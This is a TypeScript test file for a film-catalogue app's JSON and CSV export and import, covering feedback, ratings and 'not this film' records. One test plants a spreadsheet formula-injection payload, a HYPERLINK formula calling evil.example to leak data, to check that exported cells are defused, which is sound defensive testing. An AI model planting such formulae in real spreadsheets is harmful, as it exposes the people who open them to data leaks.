import { afterEach, describe, expect, it } from 'vitest';
import { catalogueIds, catalogueKeys, previewCsvImport } from './csv-import';
import { CatalogueRepository } from './repository';
import { testCatalogueDatabase } from '../../tests/support/test-database';
import { committedCatalogue, film } from '../../tests/support/test-catalogue';
import { feedbackToCsv, filmsToCsv, readFeedbackCsv, readJsonExport, toJsonExport } from './transfer';
import type { Feedback, Film } from './types';
import { withUserRatings } from './user-ratings';

const open: CatalogueRepository[] = [];
function freshRepository(): CatalogueRepository {
  const repository = new CatalogueRepository(testCatalogueDatabase());
  open.push(repository);
  return repository;
}
afterEach(() => {
  for (const repository of open.splice(0)) repository.close();
});

const builtin = committedCatalogue().films.filter((f) => ['1', '47', '318', '4973'].includes(f.id));
const mine: Film[] = [
  film({ id: 'imp-a1', title: 'My Neighbour Totoro', year: 1988, genres: ['Animation', 'Children'], rating: 4.5 }),
  film({ id: 'imp-a2', title: 'Film, With "Quotes"\nand a line break', year: null, genres: [], rating: null }),
  film({ id: 'imp-a3', title: 'Brassed Off', year: 1996, genres: ['Comedy', 'Drama', 'Romance'], rating: 3 }),
];
const votes: Feedback[] = [
  { filmId: '318', vote: 'up', emotion: 'sad', at: Date.UTC(2024, 4, 1, 20, 15, 3, 250) },
  { filmId: 'imp-a1', vote: 'down', emotion: 'happy', at: Date.UTC(2024, 4, 2) },
  { filmId: 'imp-a3', vote: 'up', emotion: 'neutral', at: Date.UTC(2024, 4, 3) },
];

/** A store with the four built-in films, the three imported ones and the three votes. */
async function filledRepository(): Promise<CatalogueRepository> {
  const repository = freshRepository();
  await repository.seedBuiltin(builtin, 1);
  await repository.commitImport(mine);
  for (const vote of votes) await repository.setFeedback(vote);
  await repository.markNotThisFilm('Outlander', '65982', Date.UTC(2026, 6, 1));
  return repository;
}

describe('"not this film"', () => {
  it('is stored by match key, listed newest first, undone, and erased with everything', async () => {
    const repository = freshRepository();
    const before = await repository.revision();
    await repository.markNotThisFilm('  Lost in   Space ', '1882', 1);
    await repository.markNotThisFilm('The Office', null, 2);
    expect((await repository.listUnmatched()).map((row) => [row.key, row.title])).toEqual([
      ['the office', 'The Office'],
      ['lost in space', 'Lost in Space'],
    ]);
    expect(await repository.revision()).toBeGreaterThan(before);
    expect(await repository.undoNotThisFilm('the office')).toBe(true);
    expect(await repository.undoNotThisFilm('the office')).toBe(false);
    await expect(repository.markNotThisFilm('   ', null, 3)).rejects.toThrow(/title/);
    await repository.eraseAll();
    expect(await repository.listUnmatched()).toEqual([]);
  });

  it('a damaged list in an export is refused with a message', async () => {
    const text = JSON.stringify({
      format: 'moodreel-export',
      version: 1,
      films: [],
      feedback: [],
      unmatched: [{ title: 42 }],
    });
    expect(await readJsonExport(text)).toEqual({ ok: false, message: expect.stringMatching(/unmatched/) });
  });
});

describe('JSON export', () => {
  it('gives back the same state through another store', async () => {
    const source = await filledRepository();
    const text = toJsonExport(await source.exportState());
    expect(JSON.parse(text)).toMatchObject({ format: 'moodreel-export', version: 1 });

    const target = freshRepository();
    await target.seedBuiltin(builtin, 1);
    const read = await readJsonExport(new Blob([text], { type: 'application/json' }));
    if (!read.ok) throw new Error(read.message);
    await target.restoreState(read.state);
    expect(await target.exportState()).toEqual(await source.exportState());
    expect(await target.allFilms()).toEqual(await source.allFilms());
    // "Not this film" travels with the feedback.
    expect((await target.listUnmatched()).map((row) => [row.key, row.title, row.filmId])).toEqual([
      ['outlander', 'Outlander', '65982'],
    ]);
  });

  it('carries the resting face when there is one, and an export without it still reads', async () => {
    const face = { probabilities: [0.06, 0.01, 0.08, 0.04, 0.25, 0.02, 0.54], at: 5, samples: 2 };
    const withFace = await readJsonExport(toJsonExport({ films: mine, feedback: votes }, face));
    expect(withFace).toMatchObject({ ok: true, restingFace: face });
    const without = await readJsonExport(toJsonExport({ films: mine, feedback: votes }));
    expect(without.ok && 'restingFace' in without).toBe(false);
    const damaged = JSON.parse(toJsonExport({ films: [], feedback: [] }, face)) as {
      restingFace: { probabilities: number[] };
    };
    damaged.restingFace.probabilities = [1, 1];
    expect(await readJsonExport(JSON.stringify(damaged))).toEqual({
      ok: false,
      message: expect.stringMatching(/restingFace/),
    });
  });

  const body = () =>
    JSON.parse(toJsonExport({ films: mine, feedback: votes })) as {
      films: Record<string, unknown>[];
      feedback: Record<string, unknown>[];
      [key: string]: unknown;
    };
  const messageFor = async (text: string) => {
    const read = await readJsonExport(text);
    expect(read.ok).toBe(false);
    return (read as { message: string }).message;
  };
  const withChange = (change: (b: ReturnType<typeof body>) => void) => {
    const b = body();
    change(b);
    return JSON.stringify(b);
  };

  it('refuses anything else with one message', async () => {
    expect(await messageFor('')).toBe('The file is empty.');
    expect(await messageFor('{"films": [')).toMatch(/not JSON/);
    expect(await messageFor('[1, 2]')).toMatch(/not a MoodReel export/);
    expect(await messageFor(withChange((b) => (b.format = 'other')))).toMatch(/not a MoodReel export/);
    expect(await messageFor(withChange((b) => (b.version = 2)))).toMatch(/version \(2\)/);
    expect(await messageFor(withChange((b) => (b.films = {} as never)))).toMatch(/must be lists/);
    expect(await messageFor(withChange((b) => (b.feedback[0]!.emotion = 'bored')))).toMatch(
      /damaged: .*emotion "bored"/,
    );
    expect(await messageFor(withChange((b) => (b.feedback[0]!.vote = 'maybe')))).toMatch(/vote/);
    expect(await messageFor(withChange((b) => (b.feedback[0]!.at = 'yesterday')))).toMatch(/epoch/);
    expect(await messageFor(withChange((b) => b.feedback.push(b.feedback[0]!)))).toMatch(/listed twice/);
    expect(await messageFor(withChange((b) => (b.films[0]!.genres = ['Animation', 'Anime'])))).toMatch(/genres/);
    expect(await messageFor(withChange((b) => (b.films[0]!.rating = 11)))).toMatch(/rating/);
    expect(await messageFor(withChange((b) => (b.films[0]!.title = '')))).toMatch(/title/);
    expect(await messageFor(withChange((b) => (b.films[0]!.source = 'builtin')))).toMatch(/source must be "imported"/);
    expect(await messageFor(withChange((b) => (b.films[0]!.id = '318')))).toMatch(/imp-/);
    expect(await messageFor(withChange((b) => b.films.push(b.films[0]!)))).toMatch(/listed twice/);
    expect(await messageFor(withChange((b) => delete b.films[0]!.aliases))).toMatch(/aliases/);
  });
});

describe('CSV export', () => {
  it("writes films in the importer's own format and feedback with titles", async () => {
    const films = filmsToCsv(mine);
    expect(films.split('\n')[0]).toBe('title,year,genres,rating');
    expect(films.split('\n')[1]).toBe('My Neighbour Totoro,1988,Animation|Children,4.5');
    const feedback = feedbackToCsv(votes, [...builtin, ...mine]);
    expect(feedback.split('\n').slice(0, 2)).toEqual([
      'title,year,vote,emotion,at,filmId',
      'The Shawshank Redemption,1994,up,sad,2024-05-01T20:15:03.250Z,318',
    ]);
  });

  it('gives back the same films and votes when imported into another store', async () => {
    const source = await filledRepository();
    const state = await source.exportState();
    const filmsCsv = filmsToCsv(state.films);
    const feedbackCsv = feedbackToCsv(state.feedback, await source.allFilms());

    const target = freshRepository();
    await target.seedBuiltin(builtin, 1);
    const preview = await previewCsvImport(filmsCsv, { known: catalogueKeys(await target.allFilms()) });
    if (!preview.ok) throw new Error(preview.message);
    expect(preview.rejected).toEqual([]);
    await target.commitImport(preview.films);
    const votesRead = await readFeedbackCsv(feedbackCsv, await target.allFilms());
    if (!votesRead.ok) throw new Error(votesRead.message);
    expect(votesRead.rejected).toEqual([]);
    await target.restoreState({ films: await target.importedFilms(), feedback: votesRead.feedback });

    // Imported films get new ids on the way back; everything else is the same.
    const described = async (repository: CatalogueRepository) => {
      const all = await repository.allFilms();
      const byId = new Map(all.map((f) => [f.id, f]));
      const { films, feedback } = await repository.exportState();
      return {
        films: films.map(({ id: _id, ...rest }) => rest).sort((a, b) => a.title.localeCompare(b.title)),
        feedback: feedback
          .map(({ filmId, ...rest }) => ({
            ...rest,
            title: byId.get(filmId)?.title,
            builtin: filmId.startsWith('imp-') ? null : filmId,
          }))
          .sort((a, b) => a.at - b.at),
      };
    };
    expect(await described(target)).toEqual(await described(source));
  });

  it('defuses cells a spreadsheet would run as formulae, and reads them back as they were', async () => {
    const planted = [
      film({
        id: 'imp-f1',
        title: '=HYPERLINK("http://evil.example/?leak","Click me")',
        year: 2001,
        genres: ['Drama'],
        rating: null,
      }),
      film({ id: 'imp-f2', title: '@SUM(1+1)', year: 2002, genres: ['Comedy'], rating: null }),
      film({ id: 'imp-f3', title: '+1 Year', year: 2003, genres: ['Comedy'], rating: null }),
      film({ id: 'imp-f4', title: '-Heat-', year: 2004, genres: ['Action'], rating: null }),
    ];
    const filmsCsv = filmsToCsv(planted);
    const cells = filmsCsv
      .split('\n')
      .slice(1, 5)
      .map((line) => line.split(',')[0]);
    expect(cells).toEqual([
      '"\'=HYPERLINK(""http://evil.example/?leak""',
      '"\'@SUM(1+1)"',
      '"\'+1 Year"',
      '"\'-Heat-"',
    ]);
    const preview = await previewCsvImport(filmsCsv, { known: new Set() });
    if (!preview.ok) throw new Error(preview.message);
    expect(preview.films.map((f) => f.title)).toEqual(planted.map((f) => f.title));
    const vote: Feedback = { filmId: 'imp-f1', vote: 'up', emotion: 'happy', at: Date.UTC(2024, 4, 1) };
    const feedbackCsv = feedbackToCsv([vote], planted);
    expect(feedbackCsv.split('\n')[1]).toMatch(/^"'=HYPERLINK/u);
    const read = await readFeedbackCsv(feedbackCsv.replace(',imp-f1', ','), planted);
    expect(read.ok && read.feedback).toEqual([vote]);
  });

  it('lists feedback lines it cannot place', async () => {
    const text = [
      'title,year,vote,emotion,at,filmId', // 1
      'Seven,1995,up,fear,2024-01-01T00:00:00Z,imp-gone', // 2: found by title and year
      'Nowhere Film,2001,up,fear,2024-01-01T00:00:00Z,imp-gone', // 3
      'Amelie,2001,sideways,fear,2024-01-01T00:00:00Z,4973', // 4
      'Amelie,2001,up,bored,2024-01-01T00:00:00Z,4973', // 5
      '"Two', // 6
      'Lines",2001,up,happy,never,4973', // 7
      'Toy Story,1995,up,happy,1700000000000,1', // 8: epoch milliseconds also read
      'too,few', // 9
    ].join('\r\n');
    const read = await readFeedbackCsv(text, builtin);
    if (!read.ok) throw new Error(read.message);
    expect(read.feedback).toEqual([
      { filmId: '47', vote: 'up', emotion: 'fear', at: Date.UTC(2024, 0, 1) },
      { filmId: '1', vote: 'up', emotion: 'happy', at: 1_700_000_000_000 },
    ]);
    expect(read.rejected.map((r) => r.line)).toEqual([3, 4, 5, 6, 9]);
    expect(read.rejected[0]!.reason).toBe('no film "Nowhere Film" (2001) in the catalogue');
    expect(read.rejected[1]!.reason).toMatch(/vote "sideways"/);
    expect(read.rejected[2]!.reason).toMatch(/emotion "bored"/);
    expect(read.rejected[3]!.reason).toMatch(/time "never"/);
    expect(read.rejected[4]!.reason).toMatch(/2 columns/);
  });

  it('refuses a file that is not a feedback export', async () => {
    expect(await readFeedbackCsv('title,year,genres\nHeat,1995,Action', builtin)).toEqual({
      ok: false,
      message: 'This is not a MoodReel feedback file: its first line must be "title,year,vote,emotion,at,filmId".',
    });
    expect(await readFeedbackCsv(new Blob([new Uint8Array([0xff, 0xfe, 0x00])]), builtin)).toMatchObject({ ok: false });
  });
});

describe("the user's rating of a catalogue film", () => {
  it('is kept on import, shown on the film, exported in both formats and brought back by either', async () => {
    const shawshank = builtin.find((f) => f.id === '318')!;
    const source = freshRepository();
    await source.seedBuiltin(builtin, 1);
    const csvText = 'title,year,genres,rating\n"Shawshank Redemption, The",1994,Crime|Drama,5\n';
    const preview = await previewCsvImport(csvText, { known: catalogueIds(await source.allFilms()) });
    if (!preview.ok) throw new Error(preview.message);
    await source.commitImport(preview.films);
    const shown = withUserRatings(await source.allFilms());
    expect(shown.filter((f) => f.title === 'The Shawshank Redemption')).toEqual([{ ...shawshank, userRating: 5 }]);

    const state = await source.exportState();
    expect(state.films).toMatchObject([{ title: 'The Shawshank Redemption', rating: 5, sameAs: '318' }]);
    const viaJson = freshRepository();
    await viaJson.seedBuiltin(builtin, 1);
    const read = await readJsonExport(toJsonExport(state));
    if (!read.ok) throw new Error(read.message);
    await viaJson.restoreState(read.state);
    expect(withUserRatings(await viaJson.allFilms()).find((f) => f.id === '318')!.userRating).toBe(5);

    const viaCsv = freshRepository();
    await viaCsv.seedBuiltin(builtin, 1);
    const again = await previewCsvImport(filmsToCsv(state.films), { known: catalogueIds(await viaCsv.allFilms()) });
    if (!again.ok) throw new Error(again.message);
    await viaCsv.commitImport(again.films);
    expect(withUserRatings(await viaCsv.allFilms()).find((f) => f.id === '318')!.userRating).toBe(5);
  });

  it('refuses a rating record that names no built-in film, or has no rating', async () => {
    const bad = (change: Partial<Film>) =>
      readJsonExport(toJsonExport({ films: [{ ...mine[0]!, ...change }], feedback: [] }));
    expect(await bad({ sameAs: 'imp-x' })).toMatchObject({ ok: false, message: expect.stringMatching(/sameAs/) });
    expect(await bad({ sameAs: '318', rating: null })).toMatchObject({ ok: false });
    expect(await bad({ sameAs: '318' })).toMatchObject({ ok: true });
  });
});
